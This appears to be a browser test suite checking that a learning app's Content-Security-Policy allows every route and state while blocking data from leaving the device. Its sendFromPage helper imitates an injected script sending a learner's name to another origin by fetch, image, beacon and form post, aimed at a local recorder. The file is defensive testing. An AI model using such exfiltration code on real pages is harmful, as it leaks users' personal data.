// The built page carries a Content-Security-Policy (scripts/csp-plugin.ts) that lets nothing
// leave the device. From file:// and from a hosted copy: every route and interactive state
// (styles the app changes, printing, downloads, import, a form) runs without one refusal; and
// a fetch, an image, a beacon and a form post to another origin are refused and never arrive,
// while the same page without its policy does send them, so the probe itself can fail.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { launch, watchPage } from './browser.mjs';
import { DIST, INDEX, discoverRoutes, fileUrl, startServer, waitForHeading } from './helpers.mjs';
import { answerCurrent } from './quiz-driver.mjs';

const POLICY = 'meta[http-equiv="Content-Security-Policy"]';
/** Routes not linked from the menu. */
const EXTRA_ROUTES = [
  '/progress/report',
  '/teacher/class-results',
  '/teacher/worksheet/authorship',
  '/teacher/answer-key/authorship',
  '/no-such-page',
];

let browser;
let scratch;
/** Another origin on this machine that writes down every request it receives. */
let recorder;
before(async () => {
  browser = await launch();
  scratch = mkdtempSync(join(tmpdir(), 'csp-'));
  recorder = await startRecorder();
});
after(async () => {
  await browser?.close();
  await recorder?.close();
  rmSync(scratch, { recursive: true, force: true });
});

test('the bundle needs no eval, new Function or WebAssembly', () => {
  const html = readFileSync(INDEX, 'utf8');
  assert.doesNotMatch(html, /\beval\s*\(|\bnew Function\s*\(|\bWebAssembly\./);
  assert.match(html, /<meta http-equiv="Content-Security-Policy" content="default-src 'none';/);
});

test('from file://, every route and interactive state runs with no policy refusal', async () => {
  const page = await browser.context.newPage();
  const { violations, problems } = await watchPolicy(page);
  await walkEverything(page, fileUrl);
  assert.deepEqual(violations, []);
  assert.deepEqual(problems, []);
  await page.close();
});

test('hosted, every route and state runs with no refusal; service worker and manifest work', async () => {
  const server = await startServer(DIST);
  const page = await browser.context.newPage();
  const { violations, problems } = await watchPolicy(page);
  try {
    await page.goto(server.url);
    await waitForHeading(page);
    await page.evaluate(async () => {
      await navigator.serviceWorker.ready;
      if (!navigator.serviceWorker.controller) {
        await new Promise((ok) =>
          navigator.serviceWorker.addEventListener('controllerchange', ok, { once: true }),
        );
      }
    });
    // Chromium fetches the manifest and its icon (as for installing) under the page's policy.
    const cdp = await browser.context.newCDPSession(page);
    const manifest = await cdp.send('Page.getAppManifest');
    assert.equal(manifest.url, `${server.url}manifest.webmanifest`);
    assert.deepEqual(manifest.errors, []);
    assert.deepEqual((await cdp.send('Page.getInstallabilityErrors')).installabilityErrors, []);
    await walkEverything(page, (route) => `${server.url}#${route}`);
  } finally {
    await server.stop();
    await page.close();
  }
  assert.deepEqual(violations, []);
  assert.deepEqual(problems, []);
});

for (const [where, open] of [
  [
    'file://',
    async (page) => {
      await page.goto(fileUrl('/'));
    },
  ],
  [
    'a hosted copy',
    async (page) => {
      const server = await startServer(DIST);
      await page.goto(server.url);
      return server;
    },
  ],
]) {
  test(`from ${where}, a fetch, an image, a beacon and a form post to another origin are refused`, async () => {
    recorder.requests.length = 0;
    const page = await browser.context.newPage();
    const { violations } = await watchPolicy(page);
    const server = await open(page);
    try {
      await waitForHeading(page);
      const outcome = await sendFromPage(page, recorder.url);
      assert.equal(outcome.fetch, 'refused');
      assert.equal(outcome.image, 'refused');
      await until(() => violations.length >= 4, 'the four refusals');
      // Time for anything that did get out to arrive.
      await page.waitForTimeout(500);
      assert.deepEqual(recorder.requests, []);
      assert.deepEqual(violations.map((v) => v.split(' ')[0]).sort(), [
        'connect-src',
        'connect-src',
        'form-action',
        'img-src',
      ]);
      // The form post did not take the learner away from the module.
      assert.equal(await page.locator('#main h1').count(), 1);
    } finally {
      await server?.stop();
      await page.close();
    }
  });
}

test('without its policy, the same page does send all four (the probe detects a leak)', async () => {
  recorder.requests.length = 0;
  const html = readFileSync(INDEX, 'utf8');
  const unprotected = html.replace(/\s*<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
  assert.notEqual(unprotected, html);
  const copy = join(scratch, 'index.html');
  writeFileSync(copy, unprotected);
  const page = await browser.context.newPage();
  await page.goto(pathToFileURL(copy).href);
  await waitForHeading(page);
  await sendFromPage(page, recorder.url);
  await until(() => recorder.requests.length >= 4, 'four requests at the recorder');
  assert.deepEqual(recorder.requests.map((r) => r.split('?')[0]).sort(), [
    'GET /fetch',
    'GET /image',
    'POST /beacon',
    'POST /form',
  ]);
  await page.close();
});

/**
 * Policy violations as the page reports them (listened for before any of its scripts runs),
 * and console errors, where Chromium also logs every refusal.
 */
async function watchPolicy(page) {
  const violations = [];
  await page.exposeBinding('__reportViolation', (_source, line) => violations.push(line));
  await page.addInitScript(() => {
    document.addEventListener(
      'securitypolicyviolation',
      (e) =>
        window.__reportViolation(
          `${e.effectiveDirective} refused ${e.blockedURI} at ${location.hash || '#/'}: ${e.sample}`,
        ),
      true,
    );
  });
  return { violations, problems: watchPage(page) };
}

/** Every route, loaded afresh, in print too; then each state that changes styles or files. */
async function walkEverything(page, at) {
  await page.goto(at('/'));
  await waitForHeading(page);
  assert.match(
    await page.locator(POLICY).getAttribute('content'),
    /connect-src 'none'/,
    'the page has no policy in force',
  );

  // Display settings: the theme and text size are set on <html> while the page runs.
  await page.getByRole('button', { name: 'Display' }).click();
  await page.getByRole('radio', { name: 'Dark' }).check();
  await page.getByRole('radio', { name: 'Larger' }).check();
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), 'dark');

  const routes = [...(await discoverRoutes(page)), ...EXTRA_ROUTES];
  for (const route of routes) {
    await page.goto(at(route));
    await page.reload();
    await waitForHeading(page);
    await page.emulateMedia({ media: 'print' });
    await page.emulateMedia({ media: 'screen' });
  }

  // Reading a lesson fills its progress bar: React sets the width on the page as it runs.
  await page.goto(at('/lessons/unsupported-claims'));
  await waitForHeading(page);
  for (let i = 0; i < 40; i++) {
    await page.mouse.wheel(0, 400);
    await page.waitForTimeout(50);
  }
  await page.goto(at('/progress'));
  await waitForHeading(page);
  assert.ok(
    await page
      .locator('.bar > span')
      .first()
      .evaluate((bar) => bar.offsetWidth > 0),
    'reading a lesson did not fill its progress bar',
  );

  await page.goto(at('/case-study'));
  await waitForHeading(page);
  await page.getByRole('checkbox', { name: /Show expert notes/ }).check();
  await page.getByRole('button', { name: 'Open all notes' }).click();
  await page.emulateMedia({ media: 'print' });
  await page.emulateMedia({ media: 'screen' });

  await page.goto(at('/lessons/unsupported-claims/quiz'));
  await waitForHeading(page);
  await page.getByRole('button', { name: /Start the quiz|Retry the whole quiz/ }).click();
  await answerCurrent(page, 'mouse');
  await page.locator('.feedback').waitFor();

  // A form (adding a learner) is handled by the page, never submitted anywhere.
  await page.goto(at('/progress'));
  await waitForHeading(page);
  await page.getByLabel('Add a learner').fill('Ana');
  await page.getByRole('button', { name: 'Add and switch' }).click();
  await page.getByText('Added Ana.').waitFor();

  // Files out (results, CSV) through blob: downloads, and back in.
  const results = await download(page, page.getByRole('button', { name: 'Download my results' }));
  assert.match(results, /^results-Ana-.*\.json$/);
  await page.getByLabel('Results file (.json)').setInputFiles(join(scratch, results));
  await page.getByRole('region', { name: 'What the file contains' }).waitFor();
  await page.goto(at('/teacher/class-results'));
  await waitForHeading(page);
  await page.getByLabel(/^Results files/).setInputFiles(join(scratch, results));
  const csv = await download(page, page.getByRole('button', { name: /^Download as CSV/ }));
  assert.match(readFileSync(join(scratch, csv), 'utf8'), /Ana/);
  await page.evaluate(() => localStorage.clear());
}

async function download(page, button) {
  const [file] = await Promise.all([page.waitForEvent('download'), button.click()]);
  await file.saveAs(join(scratch, file.suggestedFilename()));
  return file.suggestedFilename();
}

/** What a bug or an injected script could try: send the learner's name to another origin. */
function sendFromPage(page, target) {
  return page.evaluate(async (to) => {
    const fetched = await fetch(`${to}fetch?name=Ana`, { mode: 'no-cors' }).then(
      () => 'sent',
      () => 'refused',
    );
    const image = await new Promise((done) => {
      const img = new Image();
      img.onload = () => done('loaded');
      img.onerror = () => done('refused');
      img.src = `${to}image?name=Ana`;
    });
    navigator.sendBeacon(`${to}beacon`, 'name=Ana');
    const form = Object.assign(document.createElement('form'), {
      method: 'post',
      action: `${to}form`,
    });
    form.append(Object.assign(document.createElement('input'), { name: 'name', value: 'Ana' }));
    document.body.append(form);
    form.submit();
    return { fetch: fetched, image };
  }, target);
}

async function startRecorder() {
  const requests = [];
  const server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.writeHead(204).end();
  });
  // A free port the system picks, so parallel runs never collide.
  await new Promise((ok) => server.listen(0, '127.0.0.1', ok));
  const address = server.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  return {
    url: `http://127.0.0.1:${port}/`,
    requests,
    close: () => new Promise((ok) => server.close(ok)),
  };
}

async function until(condition, what, timeout = 5000) {
  for (const start = Date.now(); !condition();) {
    if (Date.now() - start > timeout) throw new Error(`timed out waiting for ${what}`);
    await new Promise((ok) => setTimeout(ok, 50));
  }
}
